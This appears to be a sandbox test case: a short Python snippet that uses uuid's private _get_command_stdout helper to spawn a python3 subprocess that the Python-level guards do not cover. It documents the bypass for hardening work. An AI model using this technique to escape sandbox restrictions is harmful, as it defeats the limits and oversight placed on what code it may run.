# technique: uuid._get_command_stdout(program, *args) imports subprocess with uuid's own (real) __import__ and runs any program found on the default PATH: here the interpreter itself, unguarded, printing its pid and sys.modules
# configs: default, common
# The kernel sandbox still confines the program; the Python-level guards do not apply to it.
# With nothing allowed `import uuid` is refused.
import uuid
out = uuid._get_command_stdout('python3', '-c', 'import os, sys; print(os.getpid(), sorted(sys.modules)[:5])')
if out is None:
    return [{'json': {'result': 'the program did not run'}}]
return [{'json': {'escaped': out.read().decode()}}]
